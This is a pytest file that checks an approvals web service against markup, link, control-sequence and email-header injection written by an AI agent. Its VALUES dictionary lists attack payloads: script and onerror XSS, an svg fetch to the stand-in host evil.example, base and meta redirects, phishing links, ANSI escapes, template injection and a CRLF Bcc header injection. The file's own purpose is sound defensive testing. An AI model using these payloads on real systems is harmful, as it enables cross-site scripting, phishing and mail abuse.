"""An agent writes markup, links and control sequences into what people read."""

import re

import pytest
from django.core import mail
from django.utils import timezone

from approvals.services.deliveries import sweep
from tests.attacks.browsing import Page, page_of, signed_in
from tests.attacks.tools import publish, texts
from tests.stage import Stage

pytestmark = pytest.mark.allow_hosts(["127.0.0.1"])

EVIL = "evil.example"
VALUES = {
    "script": f"<script src='//{EVIL}/a.js'>alert(1)</script>",
    "image": f'"><img src=https://{EVIL}/pixel onerror=alert(1)>',
    "svg": f"<svg/onload=fetch('//{EVIL}')>",
    "style": f"</bdi><style>@import '//{EVIL}'</style>",
    "form": f"</form><form action=//{EVIL}><button>Approve</button>",
    "base": f"<base href=//{EVIL}/>",
    "meta": f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    "markdown": f"[Approve](https://{EVIL}) ![x](https://{EVIL}/pixel.png)",
    "slack": f"<!channel> <https://{EVIL}|payments-api>",
    "ansi": "\x1b[2J\x1b]0;owned\x07",
    "template": "{{ request.user }}{% debug %}${7*7}",
    "entity": "&lt;b&gt; &#x3c;b&#x3e;",
    "comment": "<!-- --><!--[if IE]><p><![endif]-->",
    "header": f"x\r\nBcc: everybody@{EVIL}\r\n\r\nhello",
    "link": f"https://{EVIL}/approve?yes=1",
    "script url": "javascript:alert(1)",
}


@pytest.fixture
def asked(stage: Stage) -> Stage:
    """Let the agent ask with every value, wherever people may read it."""
    names = [f"a{number}" for number in range(len(VALUES))]
    publish(
        stage,
        "notes.write",
        arguments_schema=texts(*names),
        scope_template="notes:all",
        summary_template="Note " + " ".join(f"{{{name}}}" for name in names[:8]),
        mapping={"method": "POST", "path": "/notes", "body": {"a0": "{a0}"}},
        in_messages=names,
    )
    everything = "\n".join(VALUES.values())
    stage.post(
        {
            "tool": "notes.write",
            "args": dict(zip(names, VALUES.values(), strict=True)),
            "reason": everything,
        },
        **{"Sealwright-Session": VALUES["script"]},
    )
    return stage


def without_ours(page: Page) -> list[str]:
    return [link for link in page.links() if not re.match(r"/(?!/)|#|\?|data:", link)]


def test_the_page_holds_no_element_of_the_agents(asked: Stage) -> None:
    ana = signed_in("ana")
    approval = asked.pending()
    paths = [page_of(approval), page_of(approval, "?view=full"), "/approvals/", "/"]

    for path in paths:
        answer = ana.get(path)

        page = Page(answer.text)
        assert without_ours(page) == []
        tags = {tag for tag, _ in page.tags}
        assert tags.isdisjoint({"base", "svg", "style", "iframe", "object", "embed"})
        assert not any(name.startswith("on") for _, a in page.tags for name in a)
        assert all(
            attributes.get("src") for tag, attributes in page.tags if tag == "script"
        )
        assert "http-equiv" not in {name for _, a in page.tags for name in a}
        assert "\x1b" not in answer.text
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
    # All of it is there to be read all the same.
    shown = Page(ana.get(page_of(approval, "?view=full")).text).text
    for name in ("script", "image", "markdown", "slack", "entity", "comment"):
        assert VALUES[name] in shown, name


def test_a_mail_holds_one_link_and_none_of_the_agents(asked: Stage) -> None:
    sweep(now=timezone.now())

    assert {to for letter in mail.outbox for to in letter.to} == {
        "ana@example.com",
        "ben@example.com",
    }
    for letter in mail.outbox:
        message = letter.message()
        assert set(message.keys()).isdisjoint({"Bcc", "Cc", "bcc"})
        assert "\n" not in letter.subject
        assert EVIL not in letter.subject
        [(html, kind)] = letter.alternatives  # type: ignore[attr-defined]  # it has
        assert kind == "text/html"
        page = Page(str(html))
        [link] = page.links()
        assert re.search(r"/approvals/apr_[0-9a-v]{26}/\?k=[\w-]{43}$", link)
        tags = {tag for tag, _ in page.tags}
        assert tags.isdisjoint({"img", "script", "form", "base", "svg", "iframe"})
        assert "\x1b" not in str(html) + str(letter.body)
